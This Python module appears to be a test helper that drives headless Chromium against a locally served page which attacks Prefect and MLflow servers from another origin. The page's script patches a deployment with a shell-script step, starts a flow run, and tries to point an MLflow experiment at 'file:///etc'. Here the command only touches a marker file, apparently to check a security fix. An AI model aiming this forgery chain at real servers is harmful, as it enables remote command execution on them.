"""A headless browser, and a web page that attacks the servers from another origin."""

from __future__ import annotations

import functools
import http.server
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
_OPTIONS = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--no-proxy-server"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
)
_BUDGET_MS = 20_000
_HOST = "127.0.0.1"

# Two requests once ran a command: one that gives a deployment a step, and one that runs it.
_ATTACK = """<!doctype html><pre id="said"></pre><script>
const prefect = "%(prefect)s/api", mlflow = "%(mlflow)s", said = document.getElementById("said");
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    said.append(`${name}: ${answer.type} ${answer.status}\\n`);
    return answer.type === "opaque" ? null : await answer.json();
  } catch (error) { said.append(`${name}: failed\\n`); }
}
const plain = {"content-type": "text/plain"};
const step = {"prefect.deployments.steps.run_shell_script": {script: "touch %(ran)s"}};
(async () => {
  const found = await attempt("filter", `${prefect}/deployments/filter`, {method: "POST", headers: plain, body: "{}"});
  const id = found?.[0]?.id ?? "%(identity)s", change = JSON.stringify({pull_steps: [step]});
  await attempt("patch", `${prefect}/deployments/${id}`, {method: "PATCH", headers: plain, body: change});
  const run = {method: "POST", headers: plain, body: "{}"}, url = `${prefect}/deployments/${id}/create_flow_run`;
  await attempt("run", url, run);
  await attempt("run unread", url, {...run, mode: "no-cors", credentials: "include"});
  await attempt("settings", `${prefect}/admin/settings`, {});
  await attempt("experiment", `${mlflow}/ajax-api/2.0/mlflow/experiments/create`, {
    method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({name: "evil", artifact_location: "file:///etc"})
  });
  said.append("end");
})();
</script>
"""


def look(url: str, profile: Path, *options: str) -> str:
    """Open a URL; returns the document once its scripts have run."""
    assert CHROMIUM is not None
    command = [CHROMIUM, *_OPTIONS, f"--user-data-dir={profile}", f"--virtual-time-budget={_BUDGET_MS}", "--dump-dom"]
    done = subprocess.run([*command, *options, url], capture_output=True, text=True, timeout=240, check=False)
    return done.stdout


@contextmanager
def attacking_page(folder: Path, *, prefect: str, mlflow: str, identity: str, ran: Path) -> Iterator[str]:
    """Serve the page on a port of its own; yields its URL.

    Args:
        folder: An empty folder.
        prefect: URL of the Prefect server.
        mlflow: URL of the MLflow server.
        identity: ID of a deployment, in case that the page cannot find one.
        ran: File that the page's command makes.
    """
    folder.mkdir()
    values = {"prefect": prefect, "mlflow": mlflow, "identity": identity, "ran": str(ran)}
    (folder / "index.html").write_text(_ATTACK % values)

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, format: str, *arguments: object) -> None: ...

    server = http.server.ThreadingHTTPServer((_HOST, 0), functools.partial(Quiet, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://{_HOST}:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()
